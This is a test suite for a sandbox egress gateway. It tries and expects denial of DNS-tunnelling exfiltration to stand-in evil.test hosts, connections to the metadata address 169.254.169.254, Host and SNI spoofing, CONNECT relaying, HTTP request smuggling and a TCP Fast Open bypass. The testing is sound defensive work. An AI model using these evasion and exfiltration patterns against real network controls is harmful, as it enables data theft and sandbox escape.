// The gateway against real programs in a real network namespace, kept by the built holder. Every denial here is
// both an effect (the program inside got nowhere) and a record (the log says why).
import { readFile } from 'node:fs/promises';
import { afterAll, afterEach, beforeAll, describe, expect, test } from 'vitest';
import type { CannedUpstreams } from '../../src/sandbox/egress/canned-upstream.ts';
import type { Gateway } from '../../src/sandbox/egress/gateway.ts';
import { type EgressConnection, type EgressLog, UNREADABLE_NAME } from '../../src/sandbox/egress/log.ts';
import { Netns } from '../kit/netns.ts';

const ENDPOINTS = [
  { host: 'api.example.com', ports: [443, 80] },
  { host: '*.wild.example.com', ports: [443] },
  { host: 'admin.example.com', ports: [8443] },
];

const UPSTREAMS: CannedUpstreams = new Map([
  [
    'api.example.com:443',
    [
      { path: '/', status: 200, headers: { 'content-type': 'text/plain' }, body: Buffer.from('the canned page') },
      { method: 'POST', path: '/upload', status: 201, headers: {}, body: Buffer.from('taken') },
      { path: '/search?q=a', status: 200, headers: {}, body: Buffer.from('one answer') },
    ],
  ],
  ['api.example.com:80', [{ path: '/', status: 200, headers: {}, body: Buffer.from('the plain page') }]],
  ['a.b.wild.example.com:443', [{ path: '/', status: 200, headers: {}, body: Buffer.from('far below') }]],
]);

/** Helpers for programs inside: an attempt gives what came back, or the code of its error. */
const CLIENTS = `
const { readFileSync } = require('node:fs');
const http = require('node:http'), https = require('node:https'), net = require('node:net'), tls = require('node:tls');
const dns = require('node:dns'), dgram = require('node:dgram');
const ca = readFileSync(process.env.CA);
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const fetchPage = (url, options = {}) => new Promise((resolve) => {
  const { body, ...rest } = options;
  const module = url.startsWith('https') ? https : http;
  const request = module.request(url, { ca, ...rest }, (response) => {
    let text = '';
    response.setEncoding('utf8').on('data', (piece) => { text += piece; }).on('end', () => resolve(response.statusCode + ' ' + text));
  });
  request.on('error', (error) => resolve(error.code)).end(body);
});
const converse = (port, host, bytes, options = {}) => new Promise((resolve) => {
  const socket = net.connect({ port, host, ...options });
  let heard = '';
  socket.setEncoding('latin1').on('data', (piece) => { heard += piece; }).on('error', (error) => resolve(error.code));
  socket.on('close', () => resolve('closed after ' + JSON.stringify(heard)));
  socket.write(bytes);
});
const addressOf = (name, family = 4) => new Promise((resolve) => dns.lookup(name, { family }, (error, address) => resolve(address ?? error.code)));
`;

let netns: Netns;
let gateway: Gateway;

beforeAll(async () => {
  netns = await Netns.start();
});

afterAll(() => netns.close());

function open(): Promise<Gateway> {
  return netns.gateway({ endpoints: ENDPOINTS, upstreams: UPSTREAMS });
}

/** Runs a program inside, and gives its result with what the gateway saw of it. */
async function attempt<T>(program: string): Promise<{ result: T; log: EgressLog }> {
  gateway = await open();
  try {
    const result = await netns.node<T>(`(async () => { ${CLIENTS} ${program} })();`);
    return { result, log: await gateway.close() };
  } catch (error) {
    await gateway.close();
    throw error;
  }
}

function refusals({ connections }: EgressLog): (Pick<EgressConnection, 'host' | 'port' | 'refusal'> | object)[] {
  return connections
    .filter(({ allowed }) => !allowed)
    .map(({ host, port, refusal, named }) => ({ host, port, refusal, ...(named !== undefined && { named }) }));
}

describe('what is granted', () => {
  test('works over HTTPS under an authority that only the sandbox trusts, by IPv4 and IPv6', async () => {
    const { result, log } = await attempt<string[]>(`
      done([await fetchPage('https://api.example.com/', { family: 4 }), await fetchPage('https://api.example.com/', { family: 6 })]);`);
    expect(result).toEqual(['200 the canned page', '200 the canned page']);
    expect(refusals(log)).toEqual([]);
    expect(log.connections).toMatchObject([{ host: 'api.example.com', port: 443, allowed: true, count: 2 }]);
    expect(log.connections[0]?.bytesOut).toBeGreaterThan(500);
    expect(log.connections[0]?.bytesIn).toBeGreaterThan(500);
    expect(log.requests).toEqual([
      { host: 'api.example.com', port: 443, method: 'GET', path: '/', status: 200, count: 2, bodyBytes: 0 },
    ]);
  });

  test('works over plain HTTP, and below a wildcard', async () => {
    const { result } = await attempt<string[]>(`
      done([await fetchPage('http://api.example.com/?any=query'), await fetchPage('https://a.b.wild.example.com/')]);`);
    expect(result).toEqual(['200 the plain page', '200 far below']);
  });

  test('counts the bodies of requests', async () => {
    const { result, log } = await attempt<string>(`
      done(await fetchPage('https://api.example.com/upload', { method: 'POST', body: Buffer.alloc(300000) }));`);
    expect(result).toBe('201 taken');
    expect(log.requests).toMatchObject([{ method: 'POST', path: '/upload', status: 201, bodyBytes: 300_000 }]);
    expect(log.connections[0]?.bytesOut).toBeGreaterThan(300_000);
  });

  test('answers 404 to what the scenario does not foresee, and says so', async () => {
    const { result, log } = await attempt<string[]>(`
      done([await fetchPage('https://api.example.com/nowhere'), await fetchPage('https://api.example.com/search?q=b')]);`);
    expect(result.map((each) => each.slice(0, 3))).toEqual(['404', '404']);
    expect(log.connections).toMatchObject([{ host: 'api.example.com', allowed: true, refusal: 'no-upstream' }]);
    expect(log.requests.map(({ path, status }) => [path, status])).toEqual([
      ['/nowhere', 404],
      ['/search?q=b', 404],
    ]);
  });

  test('a program that trusts only its own authorities is told apart from one that misbehaves', async () => {
    const { result, log } = await attempt<string>(`done(await fetchPage('https://api.example.com/', { ca: undefined }));`);
    expect(result).toBe('UNABLE_TO_VERIFY_LEAF_SIGNATURE');
    expect(log.connections).toMatchObject([{ host: 'api.example.com', allowed: true, refusal: 'handshake' }]);
  });

  test('one holder serves one run after another, each with a log of its own', async () => {
    const first = await attempt<string>(`done(await addressOf('api.example.com'));`);
    const second = await attempt<string>(`done(await addressOf('x.wild.example.com'));`);
    expect(first.log.lookups.map(({ name }) => name)).toEqual(['api.example.com']);
    expect(second.log.lookups.map(({ name }) => name)).toEqual(['x.wild.example.com']);
  });
});

describe('names', () => {
  test('denies an undeclared name at once, and records it', async () => {
    const { result, log } = await attempt<{ code: string; ms: number }>(`
      const started = performance.now();
      done({ code: await addressOf('collect.evil.test', 0), ms: performance.now() - started });`);
    expect(result.code).toBe('ENOTFOUND');
    expect(result.ms).toBeLessThan(500);
    expect(log.lookups).toEqual([
      { name: 'collect.evil.test', type: 'A', answered: false, count: 1 },
      { name: 'collect.evil.test', type: 'AAAA', answered: false, count: 1 },
    ]);
  });

  test.each(['wild.example.com', 'example.com', 'localhost6', 'api', 'api.example.com.evil.test'])(
    'denies %s, which no grant covers',
    async (name) => {
      const { result, log } = await attempt<string>(`done(await addressOf('${name}'));`);
      expect(result).toBe('ENOTFOUND');
      expect(log.lookups).toMatchObject([{ name, answered: false }]);
    },
  );

  test('denies reverse lookups', async () => {
    const { result, log } = await attempt<string>(`dns.reverse('1.2.3.4', (error) => done(error.code));`);
    expect(result).toBe('ENOTFOUND');
    expect(log.lookups).toEqual([{ name: '4.3.2.1.in-addr.arpa', type: 'PTR', answered: false, count: 1 }]);
  });

  test('gives a granted name no record but its addresses', async () => {
    const { result, log } = await attempt<string[]>(`
      const ask = (type) => new Promise((resolve) => dns.resolve('api.example.com', type, (error, found) => resolve(error ? error.code : found)));
      done([await ask('TXT'), await ask('MX'), await ask('CNAME')]);`);
    expect(result).toEqual(['ENODATA', 'ENODATA', 'ENODATA']);
    expect(log.lookups.every(({ answered }) => answered)).toBe(true);
  });

  test('denies a name that carries data out, however often, in bounded memory', async () => {
    const { result, log } = await attempt<string[]>(`
      const ask = (name) => new Promise((resolve) => dns.resolve4(name, (error) => resolve(error ? error.code : 'answered')));
      const codes = new Set();
      for (let batch = 0; batch < 20; batch++) {
        const names = Array.from({ length: 100 }, (_, i) => 'c2VjcmV0'.repeat(6) + (batch * 100 + i) + '.tunnel.evil.test');
        for (const code of await Promise.all(names.map(ask))) codes.add(code);
      }
      done([...codes]);`);
    expect(result).toEqual(['ENOTFOUND']);
    expect(log.lookups).toHaveLength(1024);
    expect(log.omitted.lookups).toBe(2000 - 1024);
  });

  test('answers over TCP too, query after query, and records what is not one', async () => {
    const { result, log } = await attempt<number[]>(`
      const query = (name, id) => {
        const labels = name.split('.').map((label) => Buffer.concat([Buffer.from([label.length]), Buffer.from(label)]));
        const body = Buffer.concat([Buffer.from([0, id, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0]), ...labels, Buffer.from([0, 0, 1, 0, 1])]);
        return Buffer.concat([Buffer.from([0, body.length]), body]);
      };
      const socket = net.connect(53, '10.0.0.53');
      socket.write(Buffer.concat([query('api.example.com', 1), query('evil.test', 2), Buffer.from([0, 12]), Buffer.alloc(12)]));
      let heard = Buffer.alloc(0);
      socket.on('data', (piece) => { heard = Buffer.concat([heard, piece]); });
      await sleep(300);
      const codes = [];
      for (let at = 0; at < heard.length; at += 2 + heard.readUInt16BE(at)) codes.push(heard[at + 5] & 15);
      socket.write(Buffer.from([0xff, 0xff]));
      socket.on('close', () => done(codes));`);
    expect(result).toEqual([0, 3, 1]);
    expect(log.lookups).toEqual([
      { name: UNREADABLE_NAME, type: '', answered: false, count: 2 },
      { name: 'api.example.com', type: 'A', answered: true, count: 1 },
      { name: 'evil.test', type: 'A', answered: false, count: 1 },
    ]);
  });

  test('survives every kind of broken datagram', async () => {
    const { result, log } = await attempt<string>(`
      const socket = dgram.createSocket('udp4');
      const { randomBytes } = require('node:crypto');
      for (let i = 0; i < 500; i++) await new Promise((sent) => socket.send(randomBytes(1 + (i * 7) % 1400), 53, '10.0.0.53', sent));
      done(await addressOf('api.example.com'));`);
    expect(result).toBe('25.83.0.1');
    expect(log.lookups.some(({ name }) => name === UNREADABLE_NAME)).toBe(true);
  });
});

describe('addresses and ports', () => {
  test.each(['1.2.3.4', '2606:4700::1111', '169.254.169.254', '127.0.0.1', '::1', '10.0.0.53', '25.83.0.1', '0.0.0.0'])(
    'denies a connection to %s, which DNS did not hand out',
    async (address) => {
      const { result, log } = await attempt<string>(`done(await converse(443, '${address}', 'hello'));`);
      expect(result).toBe('ECONNRESET');
      expect(log.connections).toMatchObject([{ port: 443, allowed: false, refusal: 'raw-address', count: 1 }]);
      expect(log.connections[0]?.host).toBe(address === '0.0.0.0' ? '127.0.0.1' : address);
    },
  );

  test('denies DNS over TCP to a resolver of its own', async () => {
    const { result, log } = await attempt<string>(`done(await converse(53, '8.8.8.8', 'hello'));`);
    expect(result).toBe('ECONNRESET');
    expect(refusals(log)).toEqual([{ host: '8.8.8.8', port: 53, refusal: 'raw-address' }]);
  });

  test('denies a port that is granted for another name', async () => {
    const { result, log } = await attempt<string>(`
      done(await converse(8443, await addressOf('api.example.com'), 'hello'));`);
    expect(result).toBe('ECONNRESET');
    expect(refusals(log)).toEqual([{ host: 'api.example.com', port: 8443, refusal: 'port-not-granted' }]);
  });

  test('has nobody listen on a port that is granted for none', async () => {
    const { result, log } = await attempt<string[]>(`
      const address = await addressOf('api.example.com');
      done([await converse(22, address, 'hello'), await converse(8080, '1.2.3.4', 'hello')]);`);
    expect(result).toEqual(['ECONNREFUSED', 'ECONNREFUSED']);
    expect(log.connections).toEqual([]);
  });

  test('lets no datagram out but to its own resolver', async () => {
    const { result, log } = await attempt<string[]>(`
      const address = await addressOf('api.example.com');
      const send = (port, to) => new Promise((resolve) => {
        const socket = dgram.createSocket('udp4');
        socket.on('message', () => resolve('answered'));
        socket.on('error', (error) => resolve(error.code));
        socket.connect(port, to, () => socket.send(Buffer.from('\\0\\1\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\4evil\\4test\\0\\0\\1\\0\\1')));
        setTimeout(() => resolve('silence'), 300);
      });
      done([await send(53, '8.8.8.8'), await send(443, '1.1.1.1'), await send(443, address)]);`);
    for (const each of result) expect(['ECONNREFUSED', 'silence']).toContain(each);
    expect(log.lookups.map(({ name }) => name)).toEqual(['api.example.com']);
  });

  test('denies TCP Fast Open, whose first bytes go with the connect itself', async () => {
    gateway = await open();
    // Node cannot send so; Perl is on every Debian and Ubuntu.
    const program = `use Socket; socket(my $s, PF_INET, SOCK_STREAM, 0) or die; my $msg_fastopen = 0x20000000;
      send($s, "GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n", $msg_fastopen, pack_sockaddr_in(80, inet_aton("5.6.7.8"))) or die "send: $!";
      my $got = sysread($s, my $reply, 100); print defined $got ? "read $got" : "error: $!";`;
    const { stdout } = await netns.run('/usr/bin/perl', '-e', program);
    const log = await gateway.close();
    expect(stdout).toBe('error: Connection reset by peer');
    expect(refusals(log)).toEqual([{ host: '5.6.7.8', port: 80, refusal: 'raw-address' }]);
  });

  test('with the network off refuses every name and listens on nothing', async () => {
    gateway = await netns.gateway({ mode: 'off', endpoints: ENDPOINTS });
    const result = await netns.node<string[]>(`(async () => { ${CLIENTS}
      done([await addressOf('api.example.com'), await converse(443, '1.2.3.4', 'hello')]); })();`);
    const log = await gateway.close();
    expect(gateway.caPem).toBeUndefined();
    expect(result).toEqual(['ENOTFOUND', 'ECONNREFUSED']);
    expect(log.lookups).toMatchObject([{ name: 'api.example.com', answered: false }]);
  });
});

describe('what a connection says of itself', () => {
  test('denies TLS for another name than was looked up, or for none', async () => {
    const { result, log } = await attempt<string[]>(`
      const host = await addressOf('api.example.com');
      const shake = (options) => new Promise((resolve) => tls.connect({ host, port: 443, ca, ...options }, () => resolve('ok')).on('error', (error) => resolve(error.code)));
      done([await shake({ servername: 'evil.test' }), await shake({ servername: 'admin.example.com' }), await shake({ servername: '' })]);`);
    expect(result).toEqual(['ECONNRESET', 'ECONNRESET', 'ECONNRESET']);
    expect(refusals(log)).toEqual([
      { host: 'api.example.com', port: 443, refusal: 'name-mismatch', named: 'admin.example.com' },
      { host: 'api.example.com', port: 443, refusal: 'name-mismatch', named: 'evil.test' },
      { host: 'api.example.com', port: 443, refusal: 'name-mismatch' },
    ]);
  });

  test.each([
    ['another Host', 'GET / HTTP/1.1\\r\\nHost: evil.test\\r\\n\\r\\n', 'evil.test'],
    ['the right Host on another port', 'GET / HTTP/1.1\\r\\nHost: api.example.com:8443\\r\\n\\r\\n', 'api.example.com:8443'],
    ['two Hosts', 'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nHost: evil.test\\r\\n\\r\\n', 'api.example.com, evil.test'],
    ['a whole URL', 'GET http://evil.test/ HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n', 'http://evil.test/'],
    ['no Host at all', 'GET / HTTP/1.0\\r\\n\\r\\n', undefined],
  ])('denies a request with %s, in TLS and without', async (_what, request, named) => {
    const { result, log } = await attempt<string[]>(`
      const host = await addressOf('api.example.com');
      const inTls = new Promise((resolve) => {
        const socket = tls.connect({ host, port: 443, ca, servername: 'api.example.com' }, () => socket.write('${request}'));
        let heard = '';
        socket.on('data', (piece) => { heard += piece; }).on('close', () => resolve(heard)).on('error', (error) => resolve(error.code));
      });
      done([await converse(80, host, '${request}'), await inTls]);`);
    for (const each of result) expect(each).toContain('421 Misdirected Request');
    const expected = { host: 'api.example.com', refusal: 'name-mismatch', ...(named !== undefined && { named }) };
    expect(refusals(log)).toEqual([
      { ...expected, port: 443 },
      { ...expected, port: 80 },
    ]);
    expect(log.requests).toEqual([]);
  });

  test('denies a second request over a kept connection that names another host', async () => {
    const request = (host: string) => `GET / HTTP/1.1\\r\\nHost: ${host}\\r\\n\\r\\n`;
    const { result, log } = await attempt<string>(`
      done(await converse(80, await addressOf('api.example.com'), '${request('api.example.com')}${request('evil.test')}'));`);
    expect(result).toContain('the plain page');
    expect(result).toContain('421 Misdirected Request');
    expect(refusals(log)).toEqual([
      { host: 'api.example.com', port: 80, refusal: 'name-mismatch', named: 'evil.test' },
    ]);
  });

  test('denies being a relay', async () => {
    const { result, log } = await attempt<string[]>(`
      const host = await addressOf('api.example.com');
      const relay = 'CONNECT evil.test:443 HTTP/1.1\\r\\nHost: api.example.com\\r\\n\\r\\n';
      const inTls = new Promise((resolve) => {
        const socket = tls.connect({ host, port: 443, ca, servername: 'api.example.com' }, () => socket.write(relay));
        socket.on('data', (piece) => resolve(String(piece))).on('error', (error) => resolve(error.code)).on('close', () => resolve('closed'));
      });
      done([await converse(80, host, relay), await inTls]);`);
    expect(result[0]).toBe('ECONNRESET');
    expect(['ECONNRESET', 'closed']).toContain(result[1]);
    expect(refusals(log)).toEqual([
      { host: 'api.example.com', port: 443, refusal: 'protocol', named: 'evil.test:443' },
      { host: 'api.example.com', port: 80, refusal: 'protocol', named: 'evil.test:443' },
    ]);
  });

  test.each([
    ['bytes of no protocol', 443, "Buffer.from('\\x00\\x01\\x02SSH-2.0-x\\r\\n')"],
    ['a request of two lengths', 80, "'POST / HTTP/1.1\\r\\nHost: api.example.com\\r\\nContent-Length: 4\\r\\nTransfer-Encoding: chunked\\r\\n\\r\\n0\\r\\n\\r\\n'"],
    ['headers without end', 80, "'GET / HTTP/1.1\\r\\nHost: api.example.com\\r\\nX: ' + 'x'.repeat(20000)"],
    ['HTTP/2 without TLS', 80, "'PRI * HTTP/2.0\\r\\n\\r\\nSM\\r\\n\\r\\n'"],
    ['a TLS record that is no ClientHello', 443, "Buffer.from([0x16, 3, 1, 0, 4, 2, 0, 0, 0])"],
    ['a ClientHello with a length of its own', 443, "Buffer.concat([Buffer.from([0x16, 3, 1, 0, 50, 1, 0, 0, 200]), Buffer.alloc(46)])"],
    ['a ClientHello in two records', 443, "Buffer.concat([Buffer.from([0x16, 3, 1, 0, 5, 1, 0, 0, 100, 3]), Buffer.from([0x16, 3, 1, 0, 99]), Buffer.alloc(99)])"],
  ])('denies %s', async (_what, port, bytes) => {
    const { result, log } = await attempt<string>(`done(await converse(${port}, await addressOf('api.example.com'), ${bytes}));`);
    expect(result).toBe('ECONNRESET');
    expect(refusals(log)).toEqual([{ host: 'api.example.com', port, refusal: 'protocol' }]);
  });

  test('denies a body beyond 64 MB', async () => {
    const { result, log } = await attempt<string>(`
      const request = https.request('https://api.example.com/upload', { method: 'POST', ca });
      const piece = Buffer.alloc(1 << 20);
      request.on('error', (error) => done(error.code));
      for (let i = 0; i < 80; i++) if (!request.write(piece)) await new Promise((resolve) => request.once('drain', resolve));
      request.end();`);
    expect(['ECONNRESET', 'EPIPE']).toContain(result);
    expect(refusals(log)).toEqual([{ host: 'api.example.com', port: 443, refusal: 'over-limit' }]);
  });

  test('ends connections that never say whom they are for, and more than 512 at a time', async () => {
    const { result, log } = await attempt<{ page: string; ends: Record<string, number> }>(`
      const host = await addressOf('api.example.com');
      const ends = {};
      const starts = ['', 'GET / HT', Buffer.from([0x16, 3, 1, 2, 0, 1])];
      const silent = (start) => new Promise((resolve) => {
        const socket = net.connect(443, host, () => { if (start.length > 0) socket.write(start); });
        socket.on('error', () => undefined).on('close', (hadError) => { const end = hadError ? 'reset' : 'closed'; ends[end] = (ends[end] ?? 0) + 1; resolve(); });
      });
      const all = Array.from({ length: 600 }, (_, i) => silent(starts[i % 3]));
      await Promise.all(all);
      done({ page: await fetchPage('https://api.example.com/'), ends });`);
    expect(result).toEqual({ page: '200 the canned page', ends: { reset: 600 } });
    const counted = log.connections.map(({ refusal, count }) => [refusal, count]);
    expect(counted).toEqual([
      ['over-limit', 88],
      ['protocol', 512],
      [undefined, 1],
    ]);
  });

  test('holds nothing against a connection that goes away without a word, or in the middle of one', async () => {
    const { log } = await attempt<string>(`
      const host = await addressOf('api.example.com');
      const leave = (start) => new Promise((resolve) => {
        const socket = net.connect(443, host, () => socket.end(start)).on('close', resolve).on('error', resolve).resume();
      });
      await leave(); await leave(Buffer.from([0x16, 3, 1, 2, 0, 1])); await leave('GET / HT');
      done('gone');`);
    expect(log.connections).toMatchObject([{ host: 'api.example.com', allowed: true, count: 3 }]);
    expect(log.connections[0]?.refusal).toBeUndefined();
  });
});

describe('the holder', () => {
  test('runs as an ordinary user', async () => {
    const status = await readFile(`/proc/${netns.holder.pid}/status`, 'utf8');
    const [, uid] = /^Uid:\s+(\d+)/m.exec(status) ?? [];
    expect(Number(uid)).not.toBe(0);
    expect(Number(uid)).toBe(netns.parts.host.identity?.uid ?? process.getuid?.());
  });
});
